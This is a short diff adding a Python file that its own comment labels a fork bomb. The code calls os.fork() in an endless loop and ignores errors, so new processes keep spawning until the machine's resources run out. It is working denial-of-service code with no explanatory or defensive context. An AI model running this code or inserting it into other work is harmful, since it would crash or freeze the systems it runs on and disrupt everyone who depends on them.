@@ -1,0 +1,8 @@
+# A fork bomb.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
